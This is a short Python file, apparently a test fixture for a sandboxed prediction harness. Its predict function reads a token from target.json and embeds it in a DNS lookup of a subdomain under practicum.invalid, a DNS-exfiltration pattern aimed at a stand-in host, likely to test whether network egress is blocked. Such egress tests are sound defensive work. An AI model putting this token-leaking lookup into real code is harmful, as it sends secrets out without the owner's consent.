import json
import socket


def predict(artifact, inputs, out):
    target = json.loads((artifact / "target.json").read_text())
    print("TRIED")
    try:
        socket.getaddrinfo(f"{target['token']}.practicum.invalid", 80)
    except OSError as fault:
        print(fault)
